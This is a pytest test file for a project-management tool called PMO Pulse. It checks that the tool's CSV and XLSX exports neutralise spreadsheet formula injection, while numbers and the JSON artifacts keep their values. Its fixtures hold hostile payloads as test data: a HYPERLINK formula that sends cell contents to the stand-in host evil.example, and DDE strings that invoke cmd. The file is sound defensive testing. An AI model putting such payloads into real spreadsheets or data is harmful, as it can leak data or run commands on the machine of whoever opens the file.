"""No live formulas in files people open in Excel: every CSV and XLSX PMO Pulse writes shows
formula-like text (`=`, `+`, `-`, `@`, tab, carriage return first) as text, keeps numbers as
numbers, and the JSON artifacts keep the values as the source gave them."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook
from pmopulse import pipeline
from pmopulse.config import load_config, project_home
from pmopulse.demo.register import write_risk_register
from pmopulse.jsonfile import read_json
from pmopulse.maturity.model import load_model
from pmopulse.maturity.questionnaire import write_form
from pmopulse.period import Period
from pmopulse.spreadsheet import neutral, neutral_frame
from support import REPO, minimal_config, write_config

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
DDE = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
PAYLOADS = [LINK, DDE, AT, MINUS, "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", PAYLOADS, ids=["equals", "plus", "at", "minus", "tab", "cr"])
def test_formula_like_text_gets_a_leading_quote(text: str) -> None:
    assert neutral(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -5.5, 0, None, True, "-5", "+3.5", "-1e3", ".5", "Alpha",
                                   "P-001", "a=b", " plain", ""],
                         ids=repr)
def test_numbers_and_ordinary_text_are_written_as_they_are(value: object) -> None:
    assert neutral(value) == value


def test_numeric_columns_stay_numbers_and_text_columns_are_neutralised() -> None:
    frame = pd.DataFrame({"id": [LINK, "P1"], "budget": [-5.0, 10.0], "count": [-5, 3]})
    safe = neutral_frame(frame)
    assert safe["id"].tolist() == ["'" + LINK, "P1"]
    assert safe["budget"].tolist() == [-5.0, 10.0] and safe["count"].tolist() == [-5, 3]
    assert frame["id"].tolist() == [LINK, "P1"], "the caller's frame is left alone"


@pytest.fixture(scope="module")
def quarantine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A validated period whose hostile project rows were quarantined (unknown unit, negative budget)."""
    tmp = tmp_path_factory.mktemp("quarantine")
    (tmp / "data").mkdir()
    with (tmp / "data" / "projects.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([
            ["id", "name", "business_unit", "manager", "status", "start", "baseline_finish",
             "budget_at_completion"],
            ["P1", "Alpha", "BU1", "Ann", "active", "2026-01-01", "2026-12-31", "1000"],
            [LINK, DDE, "BU-X", AT, "active", "2026-01-01", "2026-12-31", "-5"],
            ["P3", MINUS, "BU1", "Bob", "active", "2026-01-01", "2026-12-31", "-7"],
        ])
    config = load_config(write_config(tmp, minimal_config(
        [{"name": "finance", "kind": "files", "path": "data"}])))
    period = Period.parse("2026-10")
    pipeline.extract(config, period)
    pipeline.validate(config, period)
    return config.period_dir(period) / "quarantine"


def test_the_quarantine_csv_shows_formulas_as_text_and_budgets_as_numbers(quarantine: Path) -> None:
    with (quarantine / "projects.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["id"], r["name"], r["manager"]) for r in rows] == [
        ("'" + LINK, "'" + DDE, "'" + AT), ("P3", "'" + MINUS, "Bob")]
    assert [float(r["budget_at_completion"]) for r in rows] == [-5.0, -7.0]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", value), value


def test_the_quarantine_json_keeps_the_values_as_the_source_gave_them(quarantine: Path) -> None:
    rows = read_json(quarantine / "projects.json")
    assert [(r["id"], r["name"], r["manager"], r["budget_at_completion"]) for r in rows] == [
        (LINK, DDE, AT, -5.0), ("P3", MINUS, "Bob", -7.0)]
    assert rows[0]["forecast_finish"] is None, "a missing date is null, not 'NaT'"


@pytest.fixture(scope="module")
def hostile_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The default model with a question text, a dimension name and a Chinese text that are formulas."""
    path = project_home() / "assessments" / "models" / "pmo_maturity.yaml"
    raw = yaml.safe_load(path.read_text(encoding="utf-8"))
    dimension = raw["dimensions"][0]
    dimension["name"]["en"] = MINUS
    question = dimension["practices"][0]["questions"][0]
    question["text"] = {"en": LINK, "zh": AT}
    copy = tmp_path_factory.mktemp("model") / "pmo_maturity.yaml"
    copy.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
    return copy


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_questionnaire_xlsx_has_no_formula_cell(hostile_model: Path, tmp_path: Path,
                                                     language: str) -> None:
    form = write_form(load_model(hostile_model), tmp_path / "form.xlsx", "xlsx", language)
    book = load_workbook(form)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert ("'" + LINK if language == "en" else "'" + AT) in texts
    if language == "en":
        assert "'" + MINUS in texts
    assert book["Questionnaire"].cell(2, 4).value == 2, "the level stays a number"


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_questionnaire_csv_shows_formulas_as_text(hostile_model: Path, tmp_path: Path,
                                                       language: str) -> None:
    form = write_form(load_model(hostile_model), tmp_path / "form.csv", "csv", language)
    with form.open(encoding="utf-8-sig", newline="") as handle:
        cells = [value for row in csv.reader(handle) for value in row]
    assert ("'" + LINK if language == "en" else "'" + AT) in cells
    assert not any(value.startswith(("=", "+", "@")) for value in cells)


def test_the_demo_risk_register_has_no_formula_cell(tmp_path: Path) -> None:
    risks = pd.DataFrame([{"project": "P1", "id": LINK, "probability": "0.5", "impact": "3",
                           "status": "open", "owner": DDE, "raised": "2026-01-05",
                           "last_reviewed": "2026-02-01", "has_response_plan": "true",
                           "materialised": "false"}])
    book = load_workbook(write_risk_register(risks, tmp_path))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert {"'" + LINK, "'" + DDE} <= {c.value for c in cells}


_WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|xlsxwriter")
_XLSX_MODULES = {"maturity/questionnaire.py", "demo/register.py"}
"""Modules that build workbooks with openpyxl; each is covered by a test above."""


def test_every_csv_and_xlsx_goes_through_the_one_writer() -> None:
    package = REPO / "plugins" / "pmopulse"
    direct, workbooks = [], set()
    for path in sorted(package.rglob("*.py")):
        name = path.relative_to(package).as_posix()
        text = path.read_text(encoding="utf-8")
        if name != "spreadsheet.py" and _WRITERS.search(text):
            direct.append(name)
        if re.search(r"from openpyxl import .*Workbook\b", text):
            workbooks.add(name)
    assert direct == [], "write CSV and XLSX through pmopulse.spreadsheet, which neutralises formulas"
    assert workbooks == _XLSX_MODULES, (
        "a new module writes workbooks: fill its cells with pmopulse.spreadsheet.append_row and "
        "add a test here that its file has no formula cell")
